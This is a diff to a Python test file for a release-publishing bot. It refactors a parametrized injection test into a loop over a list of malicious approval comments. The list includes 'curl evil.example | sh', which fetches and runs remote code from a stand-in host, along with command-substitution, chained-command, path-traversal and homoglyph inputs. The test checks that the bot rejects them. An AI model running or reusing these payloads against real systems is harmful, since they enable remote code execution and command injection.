@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import os
 
-import pytest
 import yaml
 from release_helpers import CONTRIBUTOR, CURATOR, OUTSIDER, bot_comments, draft_id_of, merged_release
 
@@ -71,7 +70,7 @@ def test_pull_request_config_cannot_change_curators_or_zenodo(world):
     assert published(world) == 1
 
 
-@pytest.mark.parametrize("body", [
+INJECTIONS = [
     "/release publish {id}; curl evil.example | sh",
     "/release publish {id} && echo pwned",
     "/release publish $(whoami)",
@@ -79,15 +78,19 @@ def test_pull_request_config_cannot_change_curators_or_zenodo(world):
     "> /release publish {id}",
     "```\n/release publish {id}\n```",
     "/release publish ../../{id}",
-    "/rеlease publish {id}",  # Cyrillic e
+    "/r\u0435lease publish {id}",  # Cyrillic e
     "/release publish {id}" + " " * 5000 + "x",
-])
-def test_injection_attempts_publish_nothing(world, body):
+]
+
+
+def test_injection_attempts_publish_nothing(world):
+    """One drafted release, every attempt in turn: each is its own approval run, and none publishes."""
     merged_release(world)
     draft_id = draft_id_of(bot_comments(world, 1)[0]["body"])
-    run = world.approve(1, CURATOR, body.replace("{id}", draft_id))
-    assert published(world) == 1
-    assert "pwned" not in run.stdout
+    for body in INJECTIONS:
+        run = world.approve(1, CURATOR, body.replace("{id}", draft_id))
+        assert published(world) == 1, body
+        assert "pwned" not in run.stdout, body
     replies = [c["body"] for c in bot_comments(world, 1)[1:]]
     for reply in replies:
         assert "curl" not in reply and "whoami" not in reply
